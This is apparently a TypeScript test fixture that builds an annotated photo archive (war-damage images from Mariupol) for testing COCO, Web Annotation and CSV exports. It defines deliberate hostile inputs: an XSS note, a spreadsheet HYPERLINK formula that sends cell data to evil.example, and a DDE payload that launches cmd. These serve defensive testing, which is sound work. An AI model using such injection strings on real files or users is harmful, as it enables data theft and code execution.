// An annotated archive for the annotation-export tests (COCO, Web Annotation, CSV): real photos
// imported through the real core, annotated through the API the app uses, with the hostile caption
// and note every format must carry intact and inert. Exports run as the app runs them.
import path from 'node:path';
import type { ExportFormat, ExportOptions, ExportProgress, Region, Term } from '../../shared/api';
import { collectExport, type ExportSet } from '../../electron/catalog/export/collect';
import { ArchiveSession } from '../../electron/service/session';
import { CAMERAS, ORIENTATION, copyFixtures, tempDir } from './fixtures';
import { HOSTILE_CAPTION } from './hostile-text';

export { HOSTILE_CAPTION };
export const HOSTILE_NOTE = 'Holes "fresh", 3 rows,\nsouth wall <img src=x onerror=alert(2)> & \'more\'';
/** A title a spreadsheet would run as a formula if written as is. */
export const FORMULA_TITLE = '=HYPERLINK("http://evil.example/?"&A1,"click")';
/** A DDE payload (starts with @), another classic spreadsheet injection. */
export const FORMULA_SUBLOCATION = '@SUM(1+1)*cmd|" /C calc"!A0';
export const ANNOTATOR = 'Olena Kovalenko';

export const ROTATED = 'Landscape_6.jpg'; // stored 1200x1800, EXIF Orientation 6: displayed 1800x1200
export const UPRIGHT_TWIN = 'Landscape_1.jpg'; // the same picture stored upright (Orientation 1)
export const GPS = 'gps__DSCN0010.jpg';
export const OTHER = 'Canon_40D.jpg';

export const RECT = { type: 'rect' as const, x: 0.1, y: 0.2, w: 0.3, h: 0.25 };
export const POLYGON = { type: 'polygon' as const, points: [[0.5, 0.5], [0.9, 0.52], [0.88, 0.9], [0.55, 0.85]] as Array<[number, number]> };
export const UNCLASSIFIED_RECT = { type: 'rect' as const, x: 0.6, y: 0.05, w: 0.2, h: 0.1 };

export interface AnnotatedArchive {
  dir: string;
  session: ArchiveSession;
  /** Photo ids by file name. */
  ids: Record<string, number>;
  term: (key: string) => Term;
  regions: { rect: Region; polygon: Region; unclassified: Region };
  freeTag: Term;
  close(): Promise<void>;
}

export async function annotatedArchive(): Promise<AnnotatedArchive> {
  const photos = copyFixtures([path.join(ORIENTATION, ROTATED), path.join(CAMERAS, GPS), path.join(CAMERAS, OTHER)]);
  const dir = tempDir();
  const session = new ArchiveSession(dir, { host: 'web' });
  await session.api.startImport({ paths: [photos], mode: 'reference' });
  await session.idle();
  await session.api.setSettings({ userName: ANNOTATOR });
  const ids = Object.fromEntries((await session.api.listPhotos({})).map((p) => [p.fileName, p.id]));
  const terms = await session.api.getVocabulary({});
  const term = (key: string) => terms.find((t) => t.key === key) ?? fail(`no term ${key}`);
  const rotated = ids[ROTATED] ?? fail('rotated photo not imported');

  const rect = await session.api.createRegion({
    photoId: rotated, geometry: RECT, classId: term('building.residential').id, damageIds: [term('damage.gunfire').id, term('damage.glazing').id],
    severity: 3, confidence: 'certain', note: HOSTILE_NOTE,
  });
  const polygon = await session.api.createRegion({
    photoId: rotated, geometry: POLYGON, classId: term('vehicle.minibus').id, damageIds: [term('damage.fire').id], severity: 4, confidence: 'possible', note: '',
  });
  const unclassified = await session.api.createRegion({
    photoId: rotated, geometry: UNCLASSIFIED_RECT, classId: null, damageIds: [term('damage.blast').id], severity: 'na', confidence: null, note: '',
  });
  const freeTag = await session.api.addTerm({ kind: 'tag', label: '-Маріуполь, "центр"', parentId: null, colour: null, shortcut: null });
  await session.api.applyBatch({
    photoIds: [rotated],
    addTagIds: [freeTag.id, term('damage.fire').id],
    removeTagIds: [],
    fields: {
      caption: HOSTILE_CAPTION, title: FORMULA_TITLE, credit: 'Photo: IWPR', copyright: '© 2022 Example Agency', creator: 'Taras Shevchuk',
      sublocation: FORMULA_SUBLOCATION, city: 'Маріуполь', country: 'Ukraine', countryCode: 'UA', event: 'Siege of Mariupol', lat: '47.0951', lon: '37.5413',
    },
  });
  // Southern and western hemisphere: negative numbers must stay numbers in a spreadsheet.
  await session.api.applyBatch({ photoIds: [ids[OTHER] ?? fail('photo missing')], addTagIds: [], removeTagIds: [], fields: { lat: '-34.6037', lon: '-58.3816' } });
  return {
    dir, session, ids, term, regions: { rect, polygon, unclassified }, freeTag,
    close: () => session.close(),
  };
}

/** The export model, collected as the export runner collects it. */
export async function exportSetOf(a: AnnotatedArchive, photoIds: number[] | null = null): Promise<ExportSet> {
  const history = await a.session.api.getHistory({ photoId: null, limit: 10_000 });
  return collectExport(a.session.current, photoIds, () => history);
}

/** Runs an export through the API (as the Export dialog does) and returns its final progress. */
export async function exportVia(
  a: AnnotatedArchive, format: ExportFormat, out: string, photoIds: number[] | null = null, options: Partial<ExportOptions> = {},
): Promise<ExportProgress> {
  let last: ExportProgress | null = null;
  const stop = a.session.onEvent((e) => {
    if (e.type === 'export-progress') last = e.progress;
  });
  try {
    await a.session.api.startExport({
      format, out, photoIds, options: { bom: true, sourceOrganization: '', contactName: '', externalDescription: '', profile: 'full', ...options },
    });
    await a.session.exportIdle();
  } finally {
    stop();
  }
  return last ?? fail('no export progress was reported');
}

function fail(message: string): never {
  throw new Error(message);
}
